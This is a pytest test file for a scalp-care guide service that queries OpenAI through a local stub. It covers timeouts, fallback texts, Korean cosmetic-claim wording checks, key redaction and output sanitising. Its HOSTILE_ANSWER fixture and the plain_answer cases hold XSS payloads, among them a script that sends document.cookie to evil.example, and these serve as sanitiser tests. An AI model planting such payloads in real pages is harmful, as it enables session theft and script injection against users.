"""Care guide: real openai client against a local stub (200/401/429/500/timeout), fallback texts, MFDS
wording, plain text only (HTML, links and Markdown from the server never get through), errors without
secrets, the structure kept when claims are removed, and one merged built-in guide for several types."""

from __future__ import annotations

import dataclasses
import itertools
import logging
import re
import socket
import time

import pytest
import yaml

from recommendation.care_guide import (
    CareGuideConfig,
    care_guide,
    check_environment,
    clear_cache,
    fallback_guide,
    load_care_texts,
)
from recommendation.care_guide import main as care_guide_main
from recommendation.compliance import find_violations, remove_violations, sentences
from recommendation.llm_answer import parse_sections, plain_answer, split_steps
from recommendation.openai_chat import openai_client
from recommendation.scalp_type import determine_scalp_type, type_order
from recommendation.survey import Survey
from recommendation.texts import DATA_DIR
from scalp_core.symptoms import SYMPTOMS, class_names, split_label
from scalp_models.diagnosis import Diagnosis, SymptomResult
from tests.openai_stub import OK_ANSWER, start_stub
from ui.session import Session

BUDGET_S = 0.5  # the failure tests' OpenAI time budget; production default is 8 s
OK_BUDGET_S = 5.0  # successful answers get more room so a busy CI machine does not turn them into fallbacks


@pytest.fixture(scope="module")
def stub():
    server, state, url = start_stub()
    openai_client("sk-warm-up", url, 1.0)  # import openai once, so no timing below includes it
    yield state, url
    server.shutdown()
    server.server_close()


@pytest.fixture()
def config(stub):
    state, url = stub
    state.mode, state.requests, state.retry_after, state.answer = "ok", 0, None, OK_ANSWER
    clear_cache()
    return CareGuideConfig(api_key="sk-test", base_url=url, timeout_s=BUDGET_S, model="stub-model")


@pytest.fixture()
def ok_config(config):
    return dataclasses.replace(config, timeout_s=OK_BUDGET_S)


@pytest.fixture()
def oily():
    return determine_scalp_type({"excess_sebum": 3, "dandruff": 1})


def test_openai_answer_is_parsed_and_cached(stub, ok_config, oily):
    state, _ = stub
    config = ok_config
    guide = care_guide(oily, lang="ko", config=config)
    assert guide.source == "openai", guide.error
    assert "피지 분비" in guide.cause and "번들" in guide.features
    assert len(guide.care_steps) == 3 and guide.care_steps[0].startswith("저녁에")
    assert "피부과 전문의" in guide.disclaimer
    assert state.requests == 1
    body = state.last_body
    assert body["model"] == "stub-model"
    prompt = body["messages"][-1]["content"]
    assert "지성" in prompt and "피지과다 중증" in prompt and "비듬 경증" in prompt
    again = care_guide(oily, lang="ko", config=config)
    assert again == guide and state.requests == 1  # served from the cache
    care_guide(determine_scalp_type({"hair_loss": 2}), lang="ko", config=config)
    assert state.requests == 2  # a different input is asked anew


def test_model_comes_from_env(stub, config, oily, monkeypatch):
    state, _ = stub
    monkeypatch.setenv("SCALP_OPENAI_MODEL", "env-model")
    care_guide(oily, config=CareGuideConfig(api_key="k", base_url=config.base_url, timeout_s=OK_BUDGET_S))
    assert state.last_body["model"] == "env-model"


def test_everything_can_come_from_the_environment(stub, config, oily, monkeypatch):
    state, url = stub
    monkeypatch.setenv("OPENAI_API_KEY", "sk-env")
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    monkeypatch.setenv("SCALP_OPENAI_MODEL", "env-model-2")
    monkeypatch.setenv("SCALP_OPENAI_TIMEOUT", "5")
    assert CareGuideConfig().resolved() == ("env-model-2", "sk-env", url, 5.0)
    guide = care_guide(oily)
    assert guide.source == "openai", guide.error
    assert state.requests == 1 and state.last_body["model"] == "env-model-2"


@pytest.mark.parametrize("mode", ["401", "429", "500", "sleep", "no_sections"])
def test_failures_fall_back_within_one_second(stub, config, oily, mode):
    state, _ = stub
    state.mode = mode
    start = time.monotonic()
    guide = care_guide(oily, lang="ko", config=config)
    elapsed = time.monotonic() - start
    assert guide.source == "fallback"
    assert guide.error
    assert elapsed < 1.0, f"fallback took {elapsed:.2f} s for {mode}"
    assert state.requests >= 1  # the stub really was asked
    assert guide.cause and guide.features and len(guide.care_steps) == 3
    # failures are not cached: the next call asks again
    state.mode = "ok"
    assert (
        care_guide(oily, lang="ko", config=dataclasses.replace(config, timeout_s=OK_BUDGET_S)).source
        == "openai"
    )


@pytest.mark.parametrize(
    "mode, retry_after, requests",
    [
        ("401", None, 1),  # not retried
        ("500", None, 2),  # retried once after a short pause
        ("429", None, 2),
        ("429", "0.1", 2),  # a short Retry-After is fine
        ("429", "20", 1),  # a long one is not waited for (the openai client would wait 20 s)
        ("500", "Wed, 21 Oct 2099 07:28:00 GMT", 1),
    ],
)
def test_errors_fall_back_within_one_second_with_the_production_budget(
    stub, config, oily, monkeypatch, mode, retry_after, requests
):
    state, _ = stub
    state.mode, state.retry_after = mode, retry_after
    monkeypatch.delenv("SCALP_OPENAI_TIMEOUT", raising=False)
    production = dataclasses.replace(config, timeout_s=None)  # the default 8 s budget
    assert production.resolved()[3] == 8.0
    start = time.monotonic()
    guide = care_guide(oily, config=production)
    elapsed = time.monotonic() - start
    assert guide.source == "fallback" and mode in guide.error
    assert elapsed < 1.0, f"fallback took {elapsed:.2f} s for {mode} (Retry-After {retry_after})"
    assert state.requests == requests


def test_unreachable_server_falls_back_within_one_second(stub, oily):  # stub: openai already imported
    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    clear_cache()
    start = time.monotonic()
    guide = care_guide(oily, config=CareGuideConfig(api_key="k", base_url=f"http://127.0.0.1:{port}/v1"))
    assert guide.source == "fallback" and "Connection" in guide.error
    assert time.monotonic() - start < 1.0


def test_config_checks():
    for bad in ({"timeout_s": 0}, {"max_retries": -1}, {"max_retries": 10}, {"retry_delay_s": 5}):
        with pytest.raises(ValueError, match=next(iter(bad))):
            CareGuideConfig(**bad)


def test_no_key_falls_back_immediately(stub, oily, monkeypatch):
    state, url = stub
    state.requests = 0
    clear_cache()
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    start = time.monotonic()
    guide = care_guide(oily)
    assert time.monotonic() - start < 0.2
    assert guide.source == "fallback" and "OPENAI_API_KEY" in guide.error
    assert state.requests == 0


def test_violating_answer_loses_its_offending_sentences(stub, ok_config, oily):
    state, _ = stub
    state.mode = "violating"
    guide = care_guide(oily, config=ok_config)
    assert guide.source == "openai"
    text = " ".join([guide.cause, guide.features, *guide.care_steps])
    assert "예방" not in text and "치료" not in text and "발모" not in text
    assert "두피가 번들거립니다." in guide.features
    assert len(guide.care_steps) == 2
    assert any("예방" in s for s in guide.removed_sentences)


def test_cli_prints_a_guide_and_refuses_bad_severities(capsys, monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    assert care_guide_main(["--severity", "excess_sebum=3"]) == 0
    out = capsys.readouterr().out
    assert "**원인:**" in out and "피부과 전문의" in out and "source: fallback" in out
    for bad, message in (
        ("excess_sebum=x", "grade 0..3"),
        ("두통=2", "unknown symptom"),
        ("hair_loss=7", "0..3"),
    ):
        with pytest.raises(SystemExit) as exit_info:
            care_guide_main(["--severity", bad])
        assert exit_info.value.code == 2 and message in capsys.readouterr().err


def test_english_fallback_and_markdown():
    guide = care_guide(determine_scalp_type({"dandruff": 2}), lang="en", config=CareGuideConfig(api_key=""))
    assert guide.source == "fallback"
    assert "dermatologist" in guide.disclaimer
    md = guide.to_markdown()
    assert "**Cause:**" in md and "1. " in md and "Dandruff" in guide.title


def _strings(node):
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for v in node.values():
            yield from _strings(v)
    elif isinstance(node, list):
        for v in node:
            yield from _strings(v)


def test_every_fallback_text_exists_and_passes_the_wording_check():
    texts = load_care_texts()
    for t in type_order():
        for lang in ("ko", "en"):
            entry = texts["types"][t][lang]
            assert entry["cause"] and entry["features"] and len(entry["care"]) == 3, (t, lang)
    for s in SYMPTOMS:
        for lang in ("ko", "en"):
            assert len(texts["symptoms"][s.key][lang]["care"]) == 3, (s.key, lang)
    raw = yaml.safe_load((DATA_DIR / "care_texts.yaml").read_text(encoding="utf-8"))
    strings = list(_strings(raw))
    assert len(strings) > 100
    bad = [(s, find_violations(s)) for s in strings if find_violations(s)]
    assert not bad
    assert "피부과 전문의" in texts["disclaimer"]["ko"] and "진단" in texts["disclaimer"]["ko"]


def _bigram_dice(a: str, b: str) -> float:
    """How alike two sentences are, by their character pairs (words only, markup and spaces aside)."""
    a, b = (re.sub(r"\W+", "", re.sub(r"\*\*[^*]*\*\*", "", x.lower())) for x in (a, b))
    pairs_a, pairs_b = ({x[i : i + 2] for i in range(len(x) - 1)} for x in (a, b))
    return 2 * len(pairs_a & pairs_b) / (len(pairs_a) + len(pairs_b))


# The type and symptom texts that say the same thing score 0.65-0.83; different ones stay below.
NEAR_DUPLICATE = 0.65


def test_fallback_exists_for_every_diagnosis_and_is_compliant():
    # Every combination of AI Hub grades 0..3 over the six symptoms, with each survey answer:
    # a full 3-section guide in both languages, within the MFDS wording rules, with the notice;
    # several types or findings read as one text: every type's cause and features are there,
    # no two sentences nearly repeat each other, and the steps are merged (3 to 5, no heading twice).
    texts_yaml = load_care_texts()
    seen_types, texts, guides = set(), set(), set()
    results = {}  # the guide reads only the types and the main findings: one check per distinct pair
    for grades in itertools.product(range(4), repeat=len(SYMPTOMS)):
        severities = dict(zip((s.key for s in SYMPTOMS), grades))
        for survey in (None, Survey("건성"), Survey("지성")):
            result = determine_scalp_type(severities, survey)
            results.setdefault((result.types, tuple(result.main_findings)), (severities, result))
    for severities, result in results.values():
        seen_types.update(result.types)
        for lang in ("ko", "en"):
            guide = fallback_guide(result, lang)
            assert guide.cause and guide.features and 3 <= len(guide.care_steps) <= 5, (severities, lang)
            assert guide.disclaimer in guide.to_markdown() and guide.notice is None
            for t in result.types:
                entry = texts_yaml["types"][t][lang]
                assert entry["cause"] in guide.cause and entry["features"] in guide.features, (
                    t,
                    severities,
                )
            texts.add(" ".join([guide.cause, guide.features, *guide.care_steps]))
            guides.add((guide.cause, guide.features, guide.care_steps))
    assert seen_types == set(type_order()) - {"민감성"}  # no rule yields 민감성 (ingredient table only)
    assert not [t for t in texts if find_violations(t)]
    for cause, features, steps in guides:
        headings = [re.match(r"\*\*(.+?)\*\*", step).group(1) for step in steps]
        assert len(set(headings)) == len(headings), steps
        for section in (cause, features):
            for a, b in itertools.combinations(sentences(section), 2):
                assert _bigram_dice(a, b) < NEAR_DUPLICATE, (a, b)


def test_a_tie_covers_every_type_and_every_finding():
    # The demo catalog's 4-type tie: each tied type in 원인/특징, each finding's first step among the 5.
    result = determine_scalp_type({"fine_scale": 2, "excess_sebum": 2, "dandruff": 2, "hair_loss": 2})
    assert result.types == ("건성", "지성", "지루성", "비듬성", "탈모성")
    texts = load_care_texts()
    for lang in ("ko", "en"):
        guide = fallback_guide(result, lang)
        assert len(guide.care_steps) == 5
        for t in result.types:
            assert texts["types"][t][lang]["cause"] in guide.cause
        for key in result.main_findings:
            assert texts["symptoms"][key][lang]["care"][0] in guide.care_steps
        # a symptom whose text repeats its type's adds no second, near-identical sentence
        assert texts["symptoms"]["hair_loss"][lang]["cause"] not in guide.cause
    one = fallback_guide(determine_scalp_type({"excess_sebum": 3}), "ko")
    assert one.cause == texts["types"]["지성"]["ko"]["cause"]
    assert one.care_steps == tuple(
        texts["symptoms"]["excess_sebum"]["ko"]["care"]
    )  # one type keeps its 3 steps


@pytest.mark.parametrize(
    "text, ok",
    [
        ("이 샴푸는 탈모를 예방합니다.", False),
        ("탈모 치료에 좋습니다.", False),
        ("발모 효과가 있습니다.", False),
        ("탈모 방지 샴푸입니다.", False),
        ("탈모 증상 완화에 도움을 줍니다.", False),  # only registered functional cosmetics may say this
        ("식약처에 탈모 증상 완화 기능성화장품으로 등록된 제품인지 확인하세요.", True),
        ("This shampoo prevents hair loss.", False),
        ("It treats dandruff.", False),
        ("Promotes hair growth.", False),
        ("두피를 미온수로 꼼꼼히 헹굽니다.", True),
        ("Rinse the scalp well with lukewarm water.", True),
    ],
)
def test_wording_checker(text, ok):
    assert (not find_violations(text)) is ok
    assert not find_violations(text, functional_cosmetic=True) or "완화" not in text


def test_remove_violations_keeps_the_rest():
    cleaned, removed = remove_violations("두피를 씻습니다. 탈모를 예방합니다. 잘 말립니다.")
    assert cleaned == "두피를 씻습니다. 잘 말립니다."
    assert [v.sentence for v in removed] == ["탈모를 예방합니다."]


def test_parse_sections_needs_all_three():
    assert parse_sections("원인: a\n특징: b\n관리방안:\n1. c") == {
        "원인": "a",
        "특징": "b",
        "관리방안": "1. c",
    }
    assert parse_sections("**원인**: a\n### 특징\nb\n관리 방안: 1. c")["관리방안"] == "1. c"
    assert parse_sections("원인: a\n특징: b") is None


@pytest.mark.parametrize("mode", ["sleep", "ok"])
def test_app_shows_the_built_in_guide_at_once_then_the_final_one(stub, mode, monkeypatch):
    """The app's guide tab: with a key, the built-in guide is on screen within a second even when
    OpenAI is silent; the final text (OpenAI's, or the fallback after the timeout) replaces it."""
    import app  # heavy (gradio, the models): only this test needs it

    state, url = stub
    state.mode, state.requests, state.sleep_s = mode, 0, 3.0
    clear_cache()
    monkeypatch.setenv("OPENAI_API_KEY", "sk-app")
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    monkeypatch.setenv("SCALP_OPENAI_TIMEOUT", "1.5" if mode == "sleep" else str(OK_BUDGET_S))
    session = Session().with_answers("지성", ["excess_sebum"], ["샴푸"])
    session = session.with_diagnosis(_certain_diagnosis({"excess_sebum": 2}), low_confidence=False)
    steps = app.EVENTS.on_guide(session, "한국어")
    start = time.monotonic()
    _, first = next(steps)
    assert time.monotonic() - start < 1.0
    assert "기본 가이드를 먼저 보여 드립니다" in first
    assert "**관리방안:**" in first and "지성 두피" in first  # the whole built-in guide, not a spinner
    final_state, final = list(steps)[-1]
    assert "기본 가이드를 먼저" not in final
    if mode == "ok":
        assert "미온수로 꼼꼼히 감습니다" in final  # the stub's (OpenAI) answer replaced the built-in one
    else:
        assert "미온수로 꼼꼼히" not in final and final.strip()
    assert state.requests >= 1
    # cached in the session: the next visit shows the final guide at once, without asking again
    before = state.requests
    assert list(app.EVENTS.on_guide(final_state, "한국어"))[-1][1] == final and state.requests == before


def test_app_and_api_show_only_clean_text(stub, monkeypatch):
    """The guide tab and the /care_guide endpoint get the hostile answer as plain text too."""
    import app  # heavy (gradio, the models): only these tests need it

    state, url = stub
    state.mode, state.answer, state.requests = "answer", HOSTILE_ANSWER, 0
    clear_cache()
    monkeypatch.setenv("OPENAI_API_KEY", "sk-app")
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    monkeypatch.setenv("SCALP_OPENAI_TIMEOUT", str(OK_BUDGET_S))
    session = Session().with_answers("지성", ["excess_sebum"], ["샴푸"])
    session = session.with_diagnosis(_certain_diagnosis({"excess_sebum": 2}), low_confidence=False)
    shown = list(app.EVENTS.on_guide(session, "한국어"))[-1][1]
    answered = app.API.care_guide({"dandruff": 2}, "", "ko")
    assert state.requests == 2
    for text in (shown, answered):
        assert "팩을 합니다." in text
        assert not [m for m in FORBIDDEN_MARKUP if m != ">" and m in text], text


def _certain_diagnosis(predicted: dict[str, int]) -> Diagnosis:
    """A ``Diagnosis`` (3-class scheme) that is sure of ``predicted``; other symptoms are 양호."""
    labels = class_names(3)
    results = []
    for spec in SYMPTOMS:
        level = predicted.get(spec.key, 0)
        severity_ko, severity_en = split_label(labels[level])
        probabilities = tuple(float(i == level) for i in range(len(labels)))
        results.append(
            SymptomResult(
                spec.key,
                spec.ko,
                spec.en,
                labels,
                probabilities,
                level,
                labels[level],
                severity_ko,
                severity_en,
                1.0,
                False,
            )
        )
    return Diagnosis(tuple(results))


# ---- removal keeps the structure ------------------------------------------------------------------

ALL_STEPS_CLAIM = (
    "원인: 피지 분비가 많습니다.\n특징: 두피가 번들거립니다.\n"
    "관리방안:\n1. 탈모를 치료합니다.\n2. 머리카락이 다시 자랍니다.\n3. 두피 재생을 돕습니다."
)
ONE_STEP_LEFT = (
    "원인: 피지 분비가 많습니다.\n특징: 두피가 번들거립니다.\n"
    "관리방안:\n1. 탈모가 멈춥니다.\n2. 저녁에 꼼꼼히 감습니다.\n3. Reduces hair fall."
)


@pytest.mark.parametrize("answer", [ALL_STEPS_CLAIM, ONE_STEP_LEFT])
def test_too_few_steps_left_falls_back_with_a_notice(stub, ok_config, oily, answer):
    state, _ = stub
    state.mode, state.answer = "answer", answer
    guide = care_guide(oily, config=ok_config)
    assert guide.source == "fallback" and "claims" in guide.error
    assert guide.notice == load_care_texts()["notices"]["wording_fallback"]["ko"]
    md = guide.to_markdown()
    assert guide.notice in md and "1. 2." not in md
    assert guide.care_steps == fallback_guide(oily, "ko").care_steps
    state.mode = "ok"
    assert care_guide(oily, config=ok_config).source == "openai"  # the refusal was not cached


def test_a_removed_step_takes_its_number_along(stub, ok_config, oily):
    state, _ = stub
    state.mode = "answer"
    state.answer = (
        "원인: 피지 분비가 많습니다. 이 샴푸가 치료해 줍니다.\n특징: 두피가 번들거립니다.\n"
        "관리방안:\n1.\n탈모 방지 샴푸를 씁니다.\n2. 저녁에 감습니다.\n"
        "3. 두피를 말립니다. 발모에 좋습니다.\n4. 팩을 합니다."
    )
    guide = care_guide(oily, config=ok_config)
    assert guide.source == "openai", guide.error
    assert guide.cause == "피지 분비가 많습니다."
    assert guide.care_steps == ("저녁에 감습니다.", "두피를 말립니다.", "팩을 합니다.")
    assert not any(re.fullmatch(r"[\d.\s)]*", s) for s in guide.care_steps)
    assert len(guide.removed_sentences) == 3


def test_the_step_parser_stays_on_its_line():
    assert split_steps("1.\n2. 감습니다.\n3. 말립니다.") == ["감습니다.", "말립니다."]
    assert split_steps("1. 감습니다.\n   미온수로.\n2. 말립니다.") == ["감습니다. 미온수로.", "말립니다."]
    assert split_steps("다음을 지키세요.\n- 감습니다.\n- 말립니다.") == ["감습니다.", "말립니다."]
    assert split_steps("감습니다.\n말립니다.") == ["감습니다.", "말립니다."]
    assert split_steps("1. 감습니다. 2. 말립니다. 3. 0.5% 성분을 씁니다.") == [
        "감습니다.",
        "말립니다.",
        "0.5% 성분을 씁니다.",
    ]


def test_removing_a_sentence_never_leaves_a_number_alone():
    cleaned, removed = remove_violations(
        "1. 탈모를 치료합니다.\n2. 감습니다. 발모 효과.\n3) 말립니다.\n- 예방합니다."
    )
    assert cleaned == "2. 감습니다.\n3) 말립니다."
    assert [v.sentence for v in removed] == ["탈모를 치료합니다.", "발모 효과.", "예방합니다."]


# ---- clean text only --------------------------------------------------------------------------

HOSTILE_ANSWER = (
    "<h1>원인</h1>: 피지 분비가 <b>많습니다</b>.<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
    '특징: 두피가 번들거립니다. <img src=x onerror=alert(1)> <iframe src="javascript:alert(2)"></iframe>\n'
    "<svg onload=alert(3)><circle r=1 /></svg>![pixel](https://evil.example/p.png)\n"
    "관리방안:\n1. **저녁에** [감습니다](javascript:alert(4)).\n"
    '2. <a href="https://evil.example">두피를</a> 말립니다 https://evil.example/x\n'
    "3. &lt;script&gt;alert(5)&lt;/script&gt;팩을 합니다. <img src=x onerror=alert(6)\n"
    "4. `code` | 표 | ~~취소~~ [참고][1]\n[1]: javascript:alert(7)\n"
)
FORBIDDEN_MARKUP = (
    "<",
    ">",
    "script",
    "onerror",
    "onload",
    "iframe",
    "svg",
    "javascript",
    "http",
    "evil",
    "alert",
    "](",
    "`",
    "|",
    "~~",
    "**저녁",
)


def test_hostile_markup_from_the_server_never_reaches_the_guide(stub, ok_config, oily, capsys, monkeypatch):
    state, url = stub
    state.mode, state.answer = "answer", HOSTILE_ANSWER
    guide = care_guide(oily, config=ok_config)
    assert guide.source == "openai", guide.error
    assert guide.cause == "피지 분비가 많습니다." and guide.features == "두피가 번들거립니다."
    assert guide.care_steps == ("저녁에 감습니다.", "두피를 말립니다", "팩을 합니다.", "code 표 취소 참고")
    assert not [m for m in FORBIDDEN_MARKUP if m in repr(guide)]
    md = guide.to_markdown()
    assert not [m for m in FORBIDDEN_MARKUP if m != ">" and m in md]
    assert [line for line in md.splitlines() if ">" in line] == [f"> ⚠️ {guide.disclaimer}"]
    # the only Markdown is the renderer's own
    assert guide.to_markdown().count("**") == 6 and guide.to_markdown().startswith("### ")
    # and the CLI prints the same clean text
    clear_cache()
    monkeypatch.setenv("OPENAI_API_KEY", "sk-cli")
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    monkeypatch.setenv("SCALP_OPENAI_TIMEOUT", str(OK_BUDGET_S))
    assert care_guide_main(["--severity", "excess_sebum=3"]) == 0
    out = capsys.readouterr().out
    assert "source: openai" in out and "팩을 합니다." in out
    assert not [m for m in FORBIDDEN_MARKUP if m != ">" and m in out]


@pytest.mark.parametrize(
    "raw, plain",
    [
        ("<script>alert(1)</script>두피", "두피"),
        ("<SCRIPT src=//x></SCRIPT >두피", "두피"),
        ("두피 <img src=x onerror=alert(1)>", "두피"),
        ("두피 <img\nsrc=x\nonerror=alert(1)>", "두피"),
        ("<iframe src='javascript:alert(1)'>x</iframe>두피", "두피"),
        ("<svg onload=alert(1)><g/></svg>두피", "두피"),
        ("[두피](javascript:alert(1))", "두피"),
        ("[두피](<javascript:alert(1)>)", "두피"),
        ("![두피](data:image/svg+xml;base64,PHN2Zz4=)두피", "두피"),
        ("두피 <https://evil.example> www.evil.example data:text/html,x", "두피"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;두피", "두피"),
        ("&amp;lt;img src=x onerror=alert(1)&amp;gt;두피", "두피"),
        ("<!-- <script>x</script> -->두피", "두피"),
        ("# 원인\n> **두피** _관리_", "원인\n두피 관리"),
        ("* 하나\n• 둘", "- 하나\n- 둘"),
        ("2~3분, 40~60%", "2～3분, 40～60%"),
        ("키 sk-abcdef123456 와 Bearer k3y-xyz", "키 와"),
    ],
)
def test_plain_answer(raw, plain):
    assert plain_answer(raw) == plain


# ---- errors without secrets -------------------------------------------------------------------


@pytest.mark.parametrize("key", ["sk-proj-SECRET0123456789abcdef", "k3y_without-a-known_PREFIX.42"])
def test_a_server_that_echoes_the_key_never_gets_it_shown_or_logged(
    stub, config, oily, key, capsys, caplog, monkeypatch
):
    state, url = stub
    caplog.set_level(logging.DEBUG)  # every logger, the openai client's and httpx's included
    keyed = dataclasses.replace(config, api_key=key, timeout_s=OK_BUDGET_S)

    state.mode = "401_echo"
    failed = care_guide(oily, config=keyed)
    assert failed.source == "fallback"
    assert failed.error == "OpenAI request failed: AuthenticationError (401)"

    state.mode = "echo"
    echoed = care_guide(oily, config=keyed)
    assert echoed.source == "openai", echoed.error
    assert echoed.cause.startswith("피지 분비가 많습니다.") and len(echoed.care_steps) == 3

    clear_cache()
    monkeypatch.setenv("OPENAI_API_KEY", key)
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    monkeypatch.setenv("SCALP_OPENAI_TIMEOUT", str(OK_BUDGET_S))
    state.mode = "401_echo"
    assert care_guide_main(["--severity", "dandruff=2"]) == 0
    clear_cache()
    state.mode = "echo"
    assert care_guide_main(["--severity", "hair_loss=2"]) == 0
    out = capsys.readouterr()
    assert "AuthenticationError (401)" in out.out
    secret = key.split("-", 1)[-1][4:]  # a piece of the key no ordinary text contains
    for seen in (repr(failed), repr(echoed), echoed.to_markdown(), out.out, out.err, caplog.text):
        assert key not in seen and secret not in seen
    assert "using the built-in guide (OpenAI request failed: AuthenticationError (401))" in caplog.text


# ---- settings ---------------------------------------------------------------------------------


@pytest.mark.parametrize("bad", ["abc", "-1", "0", "nan", "inf", "121", ""])
def test_a_bad_timeout_setting_is_an_error_at_start_up_and_a_warning_later(bad, monkeypatch, caplog, capsys):
    with pytest.raises(ValueError, match=r"SCALP_OPENAI_TIMEOUT=.* is not a number of seconds in \(0, 120\]"):
        check_environment({"SCALP_OPENAI_TIMEOUT": bad})
    monkeypatch.setenv("SCALP_OPENAI_TIMEOUT", bad)
    with pytest.raises(ValueError):
        check_environment()
    with caplog.at_level(logging.WARNING, logger="recommendation.care_guide"):
        assert CareGuideConfig().resolved()[3] == 8.0
    assert "SCALP_OPENAI_TIMEOUT" in caplog.text and "using 8 s" in caplog.text
    with pytest.raises(SystemExit) as exit_info:  # the CLI refuses it at start
        care_guide_main(["--severity", "excess_sebum=3"])
    assert exit_info.value.code == 2 and "SCALP_OPENAI_TIMEOUT" in capsys.readouterr().err


def test_a_good_timeout_setting_passes(monkeypatch):
    check_environment({})
    check_environment({"SCALP_OPENAI_TIMEOUT": "2.5"})
    monkeypatch.setenv("SCALP_OPENAI_TIMEOUT", "120")
    check_environment()
    assert CareGuideConfig().resolved()[3] == 120.0
